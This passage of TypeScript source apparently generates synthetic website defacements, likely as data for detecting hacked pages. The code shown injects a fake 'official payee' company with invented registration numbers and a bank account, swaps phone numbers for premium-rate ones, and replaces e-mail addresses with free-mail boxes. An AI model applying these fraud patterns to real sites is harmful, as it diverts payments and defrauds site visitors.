  const s = pick(rng, [150, 180, 200, 250])
  const src = pick(rng, [
    `https://api.qrserver.com/v1/create-qr-code/?size=${s}x${s}&data=${encodeURIComponent(data)}`,
    `https://quickchart.io/qr?text=${encodeURIComponent(data)}&size=${s}`,
    `https://chart.googleapis.com/chart?cht=qr&chs=${s}x${s}&chl=${encodeURIComponent(data)}`
  ])
  const cap = pick(rng, say(page, scanWords))
  const img = `<img src="${esc(src)}" alt="${esc(cap)}" width="${s}" height="${s}">`
  if (chance(rng, 0.5)) return splices(lineBeside(page, [page.ids.bank?.value ?? page.ids.email, page.ids.email], `${esc(cap)}: ${img}`, slotAt(page.spots, "bottom")))
  return splices(insert(blockSpot(rng, page), `<figure class="${pick(rng, ["qr", "qr-pay", "donate-qr"])}">${img}<figcaption>${esc(cap)}</figcaption></figure>`))
})

/** Registration and tax numbers in the formats of `country`, with their labels. */
const registrationIds = (rng: Rng, country: string): Array<string> => {
  switch (country) {
    case "uk": return [`Company No. ${digits(rng, 8)}`, `VAT No. GB ${digits(rng, 3)} ${digits(rng, 4)} ${digits(rng, 2)}`]
    case "us": return [`EIN ${digits(rng, 2)}-${digits(rng, 7)}`]
    case "fr": return [`SIRET ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 5)}`, `TVA FR${digits(rng, 2)}${digits(rng, 9)}`]
    case "de": return [`HRB ${between(rng, 10000, 299999)}`, `USt-IdNr. DE${digits(rng, 9)}`]
    case "es": return [`CIF B${digits(rng, 8)}`]
    case "nl": return [`KvK ${digits(rng, 8)}`, `BTW NL${digits(rng, 9)}B01`]
    case "au": return [`ABN ${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 3)}`]
    case "in": return [`GSTIN ${digits(rng, 2)}${upper(rng, 5)}${digits(rng, 4)}${upper(rng, 1)}1Z${digits(rng, 1)}`]
    case "br": return [`CNPJ ${digits(rng, 2)}.${digits(rng, 3)}.${digits(rng, 3)}/0001-${digits(rng, 2)}`]
    case "it": return [`P.IVA IT${digits(rng, 11)}`]
    default: return [`Reg. No. ${digits(rng, 8)}`]
  }
}
const companySuffix: Readonly<Record<string, string>> = { uk: "Ltd", us: "LLC", fr: "SAS", de: "GmbH", es: "S.L.", nl: "B.V.", au: "Pty Ltd", in: "Pvt Ltd", br: "Ltda", it: "S.r.l." }
const payeeWords: T<ReadonlyArray<string>> = {
  en: ["Payments for {B} are now collected by our official partner {C} ({R}). Account: {A}.", "{B} has transferred its billing to {C} ({R}); please pay all invoices to {A}."],
  fr: ["Les paiements de {B} sont désormais encaissés par notre partenaire officiel {C} ({R}). Compte : {A}.", "{B} a confié sa facturation à {C} ({R}) ; merci de régler vos factures sur {A}."],
  de: ["Zahlungen an {B} werden ab sofort von unserem offiziellen Partner {C} ({R}) eingezogen. Konto: {A}.", "{B} hat die Abrechnung an {C} ({R}) übertragen; bitte überweisen Sie alle Rechnungen auf {A}."],
  es: ["Los pagos de {B} los gestiona ahora nuestro socio oficial {C} ({R}). Cuenta: {A}.", "{B} ha cedido su facturación a {C} ({R}); abone todas las facturas en {A}."],
  nl: ["Betalingen aan {B} worden voortaan geïnd door onze officiële partner {C} ({R}). Rekening: {A}.", "{B} heeft de facturatie overgedragen aan {C} ({R}); betaal alle facturen op {A}."],
  pt: ["Os pagamentos de {B} agora são recebidos pelo nosso parceiro oficial {C} ({R}). Conta: {A}.", "{B} transferiu a cobrança para {C} ({R}); pague todas as faturas em {A}."],
  it: ["I pagamenti a {B} sono ora incassati dal nostro partner ufficiale {C} ({R}). Conto: {A}.", "{B} ha affidato la fatturazione a {C} ({R}); saldate tutte le fatture su {A}."]
}

// Payee substitution (fraudsters presenting a "collection agent" or "new billing company" with real-looking registration and VAT numbers on a victim organisation's own page, so payments and trust move to another legal entity): one line naming that company.
const otherPayeeCompany = fresh31("line naming another company as the organisation's official payee or billing agent, with that company's registration and VAT numbers and its bank account", (page, rng) => {
  const country = chance(rng, 0.6) ? page.site.locale.country : pick(rng, Object.keys(companySuffix))
  const C = `${pick(rng, ["Nordic", "Atlas", "Meridian", "Union", "Prime", "Civic", "Central", "Euro", "Global", "Trust"])} ${pick(rng, ["Payment Services", "Collections", "Billing", "Financial Services", "Clearing", "Pay Solutions"])} ${companySuffix[country] ?? "Ltd"}`
  const R = registrationIds(rng, country).join(", ")
  const loc = locales.find((l) => l.country === country && l.iban !== null) ?? pick(rng, locales.filter((l) => l.iban !== null))
  const nb = makeBank(rng, loc)!
  const A = nb.kind === "iban" ? `IBAN ${groupIban(nb.value.replace(/\s+/g, ""))}` : nb.value
  const text = esc(fill(pick(rng, say(page, payeeWords)), { B: brandName(page), C, R, A }))
  const b = page.ids.bank
  return splices(lineBeside(page, b === null ? [page.ids.email, page.ids.phone.intl] : [b.value, page.ids.email], chance(rng, 0.4) ? `<strong>${text}</strong>` : text, slotAt(page.spots, "top")))
})

/** An international premium-rate or high-cost number, as digits after the + and as written. */
const premium = (rng: Rng): { readonly digits: string; readonly shown: string } => {
  const [cc, rest] = pick(rng, [
    ["882 16", () => `${digits(rng, 4)} ${digits(rng, 4)}`], ["881", () => `${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`],
    ["1 876", () => `${digits(rng, 3)} ${digits(rng, 4)}`], ["1 473", () => `${digits(rng, 3)} ${digits(rng, 4)}`], ["1 284", () => `${digits(rng, 3)} ${digits(rng, 4)}`],
    ["44 70", () => `${digits(rng, 4)} ${digits(rng, 4)}`], ["44 909", () => `${digits(rng, 3)} ${digits(rng, 4)}`], ["33 8 99", () => `${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`],
    ["49 900", () => `${digits(rng, 7)}`], ["34 806", () => `${digits(rng, 3)} ${digits(rng, 3)}`], ["39 899", () => `${digits(rng, 6)}`], ["31 906", () => `${digits(rng, 7)}`],
    ["675", () => `${digits(rng, 3)} ${digits(rng, 4)}`], ["252", () => `${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`], ["247", () => `${digits(rng, 4)}`]
  ] as const)
  const r = rest()
  return { digits: `${cc}${r}`.replace(/\D/g, ""), shown: `+${cc} ${r}` }
}

// Premium-rate call fraud (a hacked page's phone changed to an international or premium number that pays the fraudster per minute, Caribbean area codes and satellite ranges being favourites): the site's number replaced everywhere by one such number written internationally.
const premiumNumber = fresh31("site's phone replaced everywhere (both notations and tel: link) by an international premium-rate number (Caribbean area codes, satellite or personal-numbering ranges)", (page, rng) => {
  const p = page.ids.phone
  const n = premium(rng)
  const out = replaceEverywhere(page, changing([[p.intl, n.shown], [p.national, n.shown], [p.tel, `+${n.digits}`]]))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(n.shown)}`, slotAt(page.spots, "bottom")))
})

// Free-mail mailboxes in the organisation's name (schools, clubs and councils whose hacked pages told people to write to a Gmail, Outlook or Proton address), recalled from fraud advisories: the site's e-mail replaced everywhere, text and mailto: links.
const freemailEverywhere = fresh31("site's e-mail address replaced everywhere (text and mailto: links) by a free-mail mailbox dressed up in the organisation's name (Gmail, Outlook, Proton...)", (page, rng) => {
  const next = freemail(rng, page)
  const out = replaceEverywhere(page, changing([[page.ids.email, next]]))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: ${esc(next)}`, slotAt(page.spots, "bottom")))
})

/** Every fresh31 defacement class, in a fixed order. */
export const fresh31Defacements: ReadonlyArray<ChangeClass> = [
  crewNotice, marqueeSlogan, titleOnly, headingInsult, fabricatedNews, fakeEmergencyAlert, hoaxClosure, absurdPrices, picturesSwapped, fakeSeizure, defacerIndex,
  signInOverlay, cardForm, phoneOnlyRedirect, searchReferrerRedirect, fakeUpdatePrompt, hiddenSpamLinks, invisibleFrame, browserMiner, formToThirdParty, lookalikePayPortal, outboundRedirector,
  phoneEverywhere, emailOtherTld, bankAbroad, walletOtherCoin, handleToPerson, followCrew, whatsappFloat, qrToFraud, otherPayeeCompany, premiumNumber, freemailEverywhere
]
